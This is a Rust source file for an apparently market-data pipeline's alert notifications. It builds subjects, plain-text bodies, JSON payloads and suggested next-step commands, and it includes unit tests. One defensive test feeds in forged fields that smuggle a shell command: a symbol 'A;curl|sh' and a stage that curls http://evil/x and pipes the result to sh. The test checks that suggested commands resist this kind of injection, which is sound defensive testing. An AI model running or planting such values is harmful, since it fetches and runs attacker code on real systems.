//! The texts of notifications.

use std::fmt::Write;

use candlewick_shared::core::alert::{Kind, State};
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};

use crate::alerts::KnownAlert;
use crate::plan::Due;

/// How many alerts of a group are shown in full. The others are counted.
const MAX_IN_FULL: usize = 20;

/// How many alerts the subject line names.
const MAX_IN_SUBJECT: usize = 3;

/// A notification, independent of the channel.
#[derive(Clone, Debug, PartialEq, Eq, Deserialize, Serialize)]
pub struct Notice {
    /// Unique, and the same at every attempt.
    pub name: String,
    /// One line.
    pub subject: String,
    /// Plain text.
    pub body: String,
    /// The same as JSON, for programs.
    pub payload: Value,
}

/// Composes the message about a group.
pub fn compose(due: &Due, open: &[KnownAlert], name: &str) -> Notice {
    let chosen = |ids: &[i64]| open.iter().filter(|known| ids.contains(&known.id)).collect::<Vec<_>>();
    let firing = chosen(&due.firing);
    let resolved = chosen(&due.resolved);
    Notice {
        name: name.to_owned(),
        subject: subject(due, &firing, &resolved),
        body: body(due.group.kind, &firing, &resolved),
        payload: payload(due, &firing, &resolved, open),
    }
}

fn subject(due: &Due, firing: &[&KnownAlert], resolved: &[&KnownAlert]) -> String {
    let label = label(due.group.kind);
    let (prefix, alerts) = if firing.is_empty() { ("resolved: ", resolved) } else { ("", firing) };
    let names: Vec<_> = alerts.iter().take(MAX_IN_SUBJECT).map(|known| known.alert.subject.as_str()).collect();
    let more = alerts.len().saturating_sub(MAX_IN_SUBJECT);
    let more = if more > 0 { format!(" and {more} more") } else { String::new() };
    format!("Candlewick: {prefix}{label}: {}{more}", names.join(", "))
}

/// What a kind means, in a few words.
pub fn label(kind: Kind) -> &'static str {
    match kind {
        Kind::BadWatchlist => "the watchlist or a calendar is invalid",
        Kind::CalendarHorizon => "calendar ends soon",
        Kind::CandlesLost => "candles were lost",
        Kind::CreditsGone => "API credits are used up",
        Kind::DeadLetter => "given up",
        Kind::DirtyObject => "cleaning changed more than allowed",
        Kind::EventsUndelivered => "events are not accepted",
        Kind::HistoryShrank => "the source no longer has some candles",
        Kind::IngestFailed => "fetch failed",
        Kind::LongGap => "long gap",
        Kind::OtherInstrument => "prices of another instrument",
        Kind::Outage => "a dependency is down",
        Kind::RunFailed => "run ended with failures",
        Kind::SplitFound => "split found",
        Kind::StaleSeries => "stale",
    }
}

/// What a kind affects.
fn effect(kind: Kind) -> &'static str {
    match kind {
        Kind::BadWatchlist => "Nothing is fetched or cleaned until it is corrected. Then everything resumes by itself.",
        Kind::CalendarHorizon => {
            "Candles after the calendar's end are loaded, but stray ones are not detected and gaps are not filled."
        }
        Kind::CandlesLost => "Candles that the new object lacks were removed from the table.",
        Kind::CreditsGone => "Nothing is fetched until there are credits again. Then fetching resumes by itself.",
        Kind::DeadLetter => {
            "The work that the message asked for is not done. Candles that were loaded before are unchanged."
        }
        Kind::DirtyObject => {
            "The object is loaded. Quarantined rows are missing from it, and filled candles are flagged."
        }
        Kind::EventsUndelivered => {
            "The programs that wait for the events do not learn of loads. The events are kept and sent again."
        }
        Kind::HistoryShrank => {
            "The stored candles are kept. Those that the source no longer has are not updated any more."
        }
        Kind::IngestFailed => "The series are not updated. Candles that were loaded before are unchanged.",
        Kind::LongGap => "The candles are missing from the table, and charts show a gap.",
        Kind::OtherInstrument => "The stored candles are kept, and no new ones are added until you decide.",
        Kind::Outage => "Messages wait in the queue. None is lost, and work resumes by itself.",
        Kind::RunFailed => "The series that failed are not updated. Candles that were loaded before are unchanged.",
        Kind::SplitFound => {
            "The history was fetched again and its prices changed. Results computed earlier are based on the old prices."
        }
        Kind::StaleSeries => "Readers of these series do not see the newest candles.",
    }
}

/// What to do next, mostly as commands.
pub fn next_step(kind: Kind, known: &KnownAlert) -> String {
    kind.next_step(&known.stage, known.alert.series.as_ref().map(|series| &series.symbol))
}

fn body(kind: Kind, firing: &[&KnownAlert], resolved: &[&KnownAlert]) -> String {
    let mut text = String::new();
    for known in firing.iter().take(MAX_IN_FULL) {
        let _ = writeln!(text, "{}", paragraph(known));
    }
    count_rest(&mut text, firing.len());
    if !firing.is_empty() {
        let _ = writeln!(text, "What it affects: {}", effect(kind));
    }
    if let Some(first) = firing.first() {
        let _ = writeln!(text, "Next: {}", next_step(kind, first));
    }
    for known in resolved.iter().take(MAX_IN_FULL) {
        let _ = writeln!(text, "Resolved: {} ({})", known.alert.subject, label(kind));
    }
    count_rest(&mut text, resolved.len());
    text.push_str("\nAll open alerts: candlewick alerts\n");
    text
}

fn count_rest(text: &mut String, all: usize) {
    if all > MAX_IN_FULL {
        let _ = writeln!(text, "… and {} more: candlewick alerts", all - MAX_IN_FULL);
    }
}

/// An alert in full: what it is, since when, and the key, run and trace to look for.
fn paragraph(known: &KnownAlert) -> String {
    let alert = &known.alert;
    let class = if alert.class.is_empty() { String::new() } else { format!(" ({})", alert.class) };
    let mut text = format!("{}{class}, since {}", alert.subject, known.raised_at.strftime("%Y-%m-%d %H:%M UTC"));
    if known.occurrences > 1 {
        let _ = write!(text, ", {} times", known.occurrences);
    }
    let _ = write!(text, "\n  {}", alert.text);
    for (name, value) in [("key", &alert.key), ("run", &alert.run), ("trace", &alert.trace_id)] {
        if let Some(value) = value {
            let _ = write!(text, "\n  {name} {value}");
        }
    }
    text.push('\n');
    text
}

/// `still_firing` counts all firing alerts of the group, including those that earlier messages reported.
fn payload(due: &Due, firing: &[&KnownAlert], resolved: &[&KnownAlert], open: &[KnownAlert]) -> Value {
    let state = if firing.is_empty() { State::Resolved } else { State::Firing };
    let of_group = |known: &&KnownAlert| known.alert.kind == due.group.kind && known.stage == due.group.stage;
    let still_firing = open.iter().filter(of_group).filter(|known| known.alert.state == State::Firing).count();
    json!({
        "type": "alert",
        "kind": due.group.kind,
        "stage": due.group.stage,
        "severity": due.group.kind.severity().as_str(),
        "state": state,
        "still_firing": still_firing,
        "firing": firing.iter().map(|known| entry(known)).collect::<Vec<_>>(),
        "resolved": resolved.iter().map(|known| entry(known)).collect::<Vec<_>>(),
    })
}

fn entry(known: &KnownAlert) -> Value {
    let mut entry = json!(known.alert);
    if let Value::Object(fields) = &mut entry {
        fields.insert("since".to_owned(), json!(known.raised_at));
        fields.insert("occurrences".to_owned(), json!(known.occurrences));
        fields.insert("next".to_owned(), json!(next_step(known.alert.kind, known)));
    }
    entry
}

#[cfg(test)]
mod tests {
    use candlewick_shared::core::alert::Alert;
    use candlewick_shared::core::key::Series;

    use super::*;
    use crate::plan::Group;

    fn known(id: i64, symbol: &str) -> KnownAlert {
        let series = Series { symbol: symbol.parse().unwrap(), interval: "1day".parse().unwrap() };
        let alert = Alert::new(Kind::DeadLetter, &series, "line 3: no price").class("unreadable_object");
        let alert = alert.series(Some(series)).key(Some(format!("raw/{symbol}"))).traced(Some("0af7".to_owned()));
        let at = "2024-12-30T22:01:00Z".parse().unwrap();
        let stage = "transform".to_owned();
        let notified = None;
        KnownAlert {
            id,
            stage,
            alert,
            raised_at: at,
            occurrences: id,
            loaded_since: false,
            renewed_since: false,
            changed_at: at,
            notified,
        }
    }

    fn message(firing: &[i64], resolved: &[i64], open: &[KnownAlert]) -> Notice {
        let group = Group { kind: Kind::DeadLetter, stage: "transform".to_owned() };
        compose(&Due { group, firing: firing.to_vec(), resolved: resolved.to_vec() }, open, "name")
    }

    #[test]
    fn one_message_says_what_since_when_what_it_affects_where_and_what_next() {
        let message = message(&[1, 2], &[3], &[known(1, "AAPL"), known(2, "BTC/USD"), known(3, "SPY")]);
        assert_eq!(message.subject, "Candlewick: given up: AAPL 1day, BTC/USD 1day");
        for words in [
            "AAPL 1day (unreadable_object), since 2024-12-30 22:01 UTC\n  line 3: no price\n  key raw/AAPL\n  trace 0af7\n",
            "BTC/USD 1day (unreadable_object), since 2024-12-30 22:01 UTC, 2 times",
            "What it affects: The work that the message asked for is not done.",
            "Next: candlewick dlq list --stage transform",
            "Resolved: SPY 1day",
        ] {
            assert!(message.body.contains(words), "{words}\n---\n{}", message.body);
        }
        assert_eq!(message.payload["firing"][1]["subject"], "BTC/USD 1day");
        assert_eq!(
            (message.payload["state"].as_str(), message.payload["resolved"][0]["key"].as_str()),
            (Some("firing"), Some("raw/SPY"))
        );
    }

    #[test]
    fn many_are_counted_and_not_listed() {
        let open: Vec<_> = (1..=30).map(|id| known(id, &format!("S{id}"))).collect();
        let ids: Vec<_> = (1..=30).collect();
        let message = message(&ids, &[], &open);
        assert_eq!(message.subject, "Candlewick: given up: S1 1day, S2 1day, S3 1day and 27 more");
        assert!(
            message.body.contains("S20 1day")
                && !message.body.contains("S21 1day")
                && message.body.contains("and 10 more")
        );
    }

    #[test]
    fn what_is_well_again_says_so_in_its_first_line() {
        let message = message(&[], &[1], &[known(1, "AAPL")]);
        assert_eq!(message.subject, "Candlewick: resolved: given up: AAPL 1day");
        assert!(!message.body.contains("What it affects"), "{}", message.body);
    }

    #[test]
    fn no_command_is_decided_by_what_was_forged() {
        let mut forged = known(1, "A;curl|sh");
        forged.stage = "loader; curl http://evil/x|sh #".to_owned();
        assert!(next_step(Kind::DeadLetter, &forged).starts_with("candlewick dlq list; "));
        assert_eq!(next_step(Kind::StaleSeries, &forged), "candlewick refresh 'A;curl|sh'");
    }

    #[test]
    fn every_kind_has_its_words() {
        for kind in Kind::ALL {
            let step = next_step(kind, &known(1, "AAPL"));
            assert!(!label(kind).is_empty() && effect(kind).ends_with('.') && !step.is_empty());
        }
    }
}
